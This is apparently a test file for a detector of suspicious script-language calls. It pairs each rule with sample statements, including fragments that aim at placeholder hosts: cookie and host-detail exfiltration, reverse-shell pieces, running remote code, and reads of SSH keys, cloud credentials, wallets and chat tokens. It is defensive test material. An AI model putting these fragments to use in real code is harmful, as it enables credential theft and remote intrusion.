import { readExamples, rulesMatching } from './matching-rules.js';
import { scriptInterfaceRules } from './script-interfaces.rules.js';

/** One statement or more for every rule; harmless, made for this table. */
const examples = readExamples(String.raw`
socket-connect-script: s.connect(('192.0.2.9', 4444))
socket-connect-script: require('net').connect(4444, '192.0.2.9');
socket-listen-script: s.bind(('', 4444))
http-upload-script: requests.post(url, files={'f': open(path, 'rb')})
http-upload-browser: fetch('https://a.example.test/', { method: 'POST', body: x });
cookie-theft: fetch('https://a.example.test/?c=' + document.cookie);
mail-send-script: server = smtplib.SMTP('mail.example.test', 587)
mail-send-script: Set m = CreateObject("CDO.Message")
ftp-upload-script: ftp.storbinary('STOR a', f)
fetch-script: fetch('https://a.example.test/a.json').then((r) => r.text());
resolve-host-script: socket.gethostbyname('a.example.test')
system-script: print(platform.uname())
user-script: getpass.getuser()
processes-script: psutil.process_iter()
reverse-shell-python: os.dup2(s.fileno(), 0)
reverse-shell-python: subprocess.Popen(socket.socket().recv(1024).decode(), shell=True)
reverse-shell-node: new (require("net").Socket()).pipe(require("child_process").spawn("/bin/sh", []).stdin)
python-command: os.system("uptime")
javascript-command: require("child_process").execSync("uptime")
vbscript-command: CreateObject("WScript.Shell").Run("notepad.exe")
runs-remote-code-vbscript: Execute CreateObject("MSXML2.XMLHTTP").responseText
runs-remote-code-javascript: eval(new ActiveXObject("MSXML2.XMLHTTP").responseText)
runs-remote-code-python: exec(requests.get("https://a.example.test/a").text)
http-upload-node: require("https").request({ hostname: "a.example.test", method: "POST" })
http-upload-com: CreateObject("MSXML2.XMLHTTP").Open("POST", "https://a.example.test/", False)
sends-host-details: requests.get("https://a.example.test/?h=" + socket.gethostname())
sends-host-details: require("dns").lookup(os.hostname() + ".a.example.test", f)
sends-in-picture: new Image().src = 'https://a.example.test/p?d=' + btoa(JSON.stringify(o))
payment-form-fields: document.querySelectorAll('input,select').forEach(function (i) { if (/cvv/.test(i.name)) o.push(i.value); })
chat-bot: bot = commands.Bot(command_prefix="!")
shell-of-outside-command: subprocess.run(line, shell=True)
chain-dead-drop: JSON.stringify({ method: "eth_call", params: [] })
browser-miner: new CoinHive.Anonymous("key")
compiles-module: var m = new module.constructor
style-sheet-script: x.transformNode(x)
browser-cookie-library: browser_cookie3.chrome(domain_name=".example.test")
clipboard-replace: pyperclip.copy(WALLET)
ssh-library-command: client.exec_command("uptime")
shell-profile-python: open(os.path.expanduser("~/.bashrc"), "a").write(line)
runs-remote-code-python: exec(zlib.decompress(s.recv(4096)))
keylogger-python: keyboard.on_press(note)
identity-com: CreateObject("WScript.Network").ComputerName
script-of-other-server: document.createElement("script").src = "https://a.example.test/a.js"
key-files-script: fs.readFileSync(os.homedir() + '/.ssh/id_ed25519')
credential-files-script: open(os.path.expanduser("~/.aws/credentials"))
environment-secrets-script: json.dumps(dict(os.environ))
wallet-files: os.path.join(appdata, "Exodus\\exodus.wallet")
chat-tokens: path = roaming + "\\discord\\Local Storage\\leveldb"
packed-python: __pyarmor__(__name__, __file__, b'PY')
compiled-code-python: exec(marshal.loads(data))
wmi-script: GetObject("winmgmts:").ExecQuery("SELECT * FROM Win32_OperatingSystem")
`);

describe('rules of the interfaces of script languages', () => {
  it.each(scriptInterfaceRules.map((rule) => rule.id))('%s has an example that fires it', (id) => {
    const statements = examples.get(id) ?? [];
    expect(statements.length).toBeGreaterThan(0);
    for (const statement of statements) expect(rulesMatching(scriptInterfaceRules, statement).map((rule) => rule.id)).toContain(id);
  });

  it('does not take a fetch that only asks for one that sends', () => {
    expect(rulesMatching(scriptInterfaceRules, "fetch('https://a.example.test/a.json', { method: 'GET' })", 'javascript').map((rule) => rule.id)).toEqual(['fetch-script']);
  });

  it.each([
    ['python', "os.dup2(null.fileno(), sys.stdin.fileno())"],
    ['python', 'client.connect(host, key_filename=settings.KEY)'],
    ['python', 'os.environ["HOME"]'],
    ['javascript', 'const port = process.env.PORT || 3000;'],
    ['javascript', 'eval(this.responseText)'],
    ['javascript', 'fetch(`${process.env.API}/a`)'],
    ['python', 'requests.get(os.environ["API"] + "/a")'],
    ['python', 'keyboard.add_hotkey("ctrl+k", open_palette)'],
  ] as const)('finds nothing in %s: %s', (language, statement) => {
    expect(rulesMatching(scriptInterfaceRules, statement, language).map((rule) => rule.id)).toEqual([]);
  });
});
